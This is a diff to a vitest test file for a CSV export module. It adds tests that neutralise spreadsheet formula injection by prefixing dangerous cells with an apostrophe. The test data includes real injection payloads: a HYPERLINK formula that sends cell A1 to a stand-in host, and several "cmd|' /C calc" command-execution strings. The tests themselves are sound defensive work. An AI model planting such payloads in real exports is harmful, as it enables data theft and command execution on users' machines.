@@ -1,5 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { asWritten, csvLine, encodeText, UTF8_BOM } from './csvText';
+import {
+  asWritten,
+  csvLine,
+  encodeText,
+  fromSpreadsheet,
+  spreadsheetCell,
+  UTF8_BOM,
+} from './csvText';
 
 const decode1251 = (bytes: Buffer) => new TextDecoder('windows-1251').decode(bytes);
 
@@ -45,5 +52,56 @@ describe('R-CSV-7: the file encodings', () => {
       'Размер 25?35 см — «Розы» ?',
     );
     expect(asWritten('Размер 25×35 см', 'utf-8')).toBe('Размер 25×35 см');
+  });
+});
+
+describe('issue 22 point 4: cells a spreadsheet would read as formulas are written as text', () => {
+  const formulas = [
+    '=HYPERLINK("http://example.com/?x="&A1;"Цена")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    ' =1+1',
+    '\u00a0@SUM(A1)',
+    '-',
+    '+7 (495) 123-45-67',
+  ];
+
+  it.each(formulas)('%j gets one leading apostrophe and is quoted', (text) => {
+    expect(spreadsheetCell(text)).toBe(`'${text}`);
+    const line = csvLine(['a', text], ';');
+    expect(line).toBe(`a;"'${text.replace(/"/g, '""')}"\r\n`);
+  });
+
+  it('numbers stay numbers, negative ones too; ordinary texts are untouched', () => {
+    for (const text of [
+      '-5',
+      '-2.5',
+      '-2,5',
+      '1290.50',
+      '0',
+      '',
+      'Розы',
+      'a=b',
+      'e-mail',
+      "'цитата",
+    ])
+      expect(spreadsheetCell(text)).toBe(text);
+    expect(csvLine(['-5', '1290.50', '25'], ';')).toBe('-5;1290.50;25\r\n');
+  });
+
+  it('reading gives every text back, apostrophes of its own included', () => {
+    const texts = [...formulas, '-5', "'", "'=1+1", "''=1+1", "'-5", "' -5", "'текст", 'Розы', ''];
+    for (const text of texts) expect(fromSpreadsheet(spreadsheetCell(text))).toBe(text);
+  });
+
+  it('reading drops an apostrophe only where the writing would have added it', () => {
+    expect(fromSpreadsheet("'=1+1")).toBe('=1+1');
+    expect(fromSpreadsheet("'текст")).toBe("'текст");
+    expect(fromSpreadsheet("'5")).toBe("'5");
+    expect(fromSpreadsheet("'-5")).toBe('-5');
   });
 });
